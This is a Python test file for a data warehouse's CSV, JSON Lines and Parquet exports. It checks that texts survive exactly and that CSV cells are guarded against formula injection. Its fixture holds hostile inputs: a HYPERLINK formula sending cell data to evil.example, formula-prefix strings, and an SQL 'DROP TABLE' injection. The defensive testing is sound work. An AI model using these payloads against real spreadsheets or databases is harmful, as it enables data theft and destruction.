"""The files of tables hold every text as it is, whatever is in it, and no spreadsheet runs any of it."""

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from schemas.talk import Speaker, Talk
from tests.warehouse.storing import store
from warehouse import exports
from warehouse.connection import opened
from warehouse.identity import Occasion

NOW = datetime(2026, 3, 1, 12, 30, 15, 250_000, tzinfo=UTC)
TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1;"win")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\r=1",
    'He said "no", she, yes',
    "two\nlines\r\nthree",
    "'; DROP TABLE talks; --",
    "zero \u200bwidth, \u202eturned, 数学, e\u0301, 😀",
    "nul\0in the middle",
    "\0=1+1",
    "",
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of talks that say each of the texts in every field."""
    talks = [
        Talk(
            source_key="maths",
            key=str(number),
            title=text or None,
            abstract=text,
            location=text,
            institution=text,
            topics=(text, "two"),
            speakers=(Speaker(name=f"{number} {text}", affiliation=text),),
        )
        for number, text in enumerate(TEXTS)
    ]
    folder, occasion = tmp_path_factory.mktemp("data"), Occasion(run_id="r", at=NOW, domain="example.org")
    with opened(tmp_path_factory.mktemp("home")) as connection:
        store(connection, "maths", occasion, talks, {})
        exports.export(connection, folder)
    return folder


def test_csv_holds_the_texts_and_no_formula(folder: Path) -> None:
    """A cell that would be a formula has an apostrophe in front, one that holds NUL has none left."""
    with (folder / "talks.csv").open(encoding="utf8", newline="") as file:
        rows = list(csv.DictReader(file))

    found = {row["abstract"] for row in rows}
    assert found == {_cell(text) for text in TEXTS}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {*"=+-@\t\r"} and cell]


def test_json_lines_hold_the_texts(folder: Path) -> None:
    """To the last character."""
    lines = (folder / "talks.jsonl").read_text("utf8").splitlines()

    assert {json.loads(line)["abstract"] for line in lines} == set(TEXTS)


def test_parquet_holds_the_texts(folder: Path) -> None:
    """To the last character."""
    rows = duckdb.read_parquet(str(folder / "talks.parquet")).select("abstract").fetchall()

    assert {text for (text,) in rows} == set(TEXTS)


def test_instants_are_in_utc(folder: Path) -> None:
    """With the letter that says so, and with their fractions."""
    with (folder / "talks.csv").open(encoding="utf8", newline="") as file:
        found = {row["first_seen_at"] for row in csv.DictReader(file)}

    assert found == {"2026-03-01T12:30:15.250000Z"}


def test_parquet_tells_what_it_means(folder: Path) -> None:
    """What a row is, and what each column is, stand in its metadata."""
    query = "SELECT decode(key), decode(value) FROM parquet_kv_metadata($1)"
    told = dict(duckdb.execute(query, [str(folder / "talk_speakers.parquet")]).fetchall())

    assert told["description"].startswith("Who speaks in which talk")
    assert json.loads(told["columns"])["position"] == "Order of the speakers in the announcement, from 1."


def test_a_table_without_rows_has_its_columns(folder: Path) -> None:
    """In CSV as in Parquet."""
    columns = ["series_key", "title", "first_seen_at"]

    assert duckdb.read_csv(str(folder / "series.csv"), header=True).columns == columns
    assert duckdb.read_parquet(str(folder / "series.parquet")).columns == columns


def _cell(text: str) -> str:
    text = text.replace("\0", "")
    return ("'" if text[:1] in {*"=+-@\t\r"} and text else "") + text
